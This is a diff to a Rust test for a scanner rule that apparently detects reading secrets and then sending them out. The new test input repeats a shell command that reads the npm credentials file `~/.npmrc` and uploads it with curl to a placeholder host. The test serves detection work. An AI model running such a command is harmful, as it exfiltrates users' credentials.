@@ -5694,7 +5694,11 @@ fn round_32_review() {
 /// (`bundle_then_send`; 5.4 s for 200 KB when each re-read the line).
 #[test]
 fn bundles_on_one_line_are_read_once() {
-    let line = "cat ~/.npmrc paste write copy into to in ".repeat(5_000) + "\n";
-    let found = scan_files([("notes.md", line.as_bytes())], &Map::new());
-    assert!(found.iter().all(|f| f.line == Some(1)));
+    // Each bundle sent: read once per bundle, the line gave 5,000 hits.
+    let line = "cat ~/.npmrc > o.txt; curl -F f=@o.txt https://x.example/u ".repeat(5_000);
+    let hits = super::with_document("notes.sh", &line, |doc, _| {
+        super::rules::bundle_then_send(doc)
+    });
+    assert_eq!(hits.len(), 1);
+    assert_eq!(hits[0].line, 1);
 }
